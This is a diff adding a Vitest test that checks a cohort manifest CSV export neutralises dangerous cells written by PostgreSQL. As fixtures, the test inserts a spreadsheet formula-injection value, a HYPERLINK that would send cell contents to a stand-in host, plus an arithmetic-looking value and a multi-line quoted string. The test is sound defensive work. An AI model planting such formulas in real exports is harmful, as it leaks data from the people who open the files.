@@ -4,7 +4,8 @@ import path from "node:path";
 import { sql } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { labDatasets, storedFiles } from "@/db/schema";
-import { iterateManifest } from "@/lib/api/cohort-manifest";
+import { iterateManifest, manifestCsvStream } from "@/lib/api/cohort-manifest";
+import { csvChunk } from "@/lib/csv/safe-csv";
 import { MANIFEST_COLUMNS } from "@/lib/api/schemas";
 import { getDb } from "@/lib/db/client";
 import { LABELS } from "@/lib/mimic/import/file-specs";
@@ -95,4 +96,22 @@ describe("a cohort manifest", () => {
     expect(rows.map((r) => r.path)).toEqual(expected.rows.map((r) => r.path));
     expect(new Set(rows.map((r) => r.chexpert_Edema))).toEqual(new Set(["1.0"]));
   });
+
+  it("streams exactly the bytes the safe-CSV writer makes of those rows, though PostgreSQL writes them", async () => {
+    // Cells that must be neutralised, quoted or left empty, in the image table the COPY reads.
+    const [a, b] = (await getDb().execute<{ dicom_id: string }>(sql`select dicom_id from mimic_image where dataset_id = ${datasetId} order by study_id, dicom_id limit 2`)).rows;
+    await getDb().execute(sql`update mimic_image set view_position = ${'=HYPERLINK("http://x.test/?"&A1,"a")'}, split = ${"-2+3"} where dataset_id = ${datasetId} and dicom_id = ${a!.dicom_id}`);
+    await getDb().execute(sql`update mimic_image set view_position = ${"line\nbreak, \"quoted\""}, split = ${""} where dataset_id = ${datasetId} and dicom_id = ${b!.dicom_id}`);
+    for (const [q, perBatch] of [["", 7], ["", 2000], ["label=Edema:positive&split=train", 5]] as const) {
+      const rows: unknown[][] = [[...MANIFEST_COLUMNS]];
+      for await (const r of iterateManifest({ labId, datasetId, filters: filters(q), studiesPerBatch: perBatch })) rows.push(r);
+      const streamed = Buffer.from(await new Response(manifestCsvStream({ labId, datasetId, filters: filters(q), studiesPerBatch: perBatch })).arrayBuffer()).toString("utf8");
+      expect(streamed.length, q).toBeGreaterThan(1000);
+      expect(streamed, `${q} by ${perBatch}`).toBe(csvChunk(rows));
+    }
+    const text = Buffer.from(await new Response(manifestCsvStream({ labId, datasetId, filters: filters("") })).arrayBuffer()).toString("utf8");
+    expect(text).toContain(`'=HYPERLINK(""http://x.test/?""&A1,""a"")"`);
+    expect(text).toContain(",'-2+3,");
+  });
 });
+
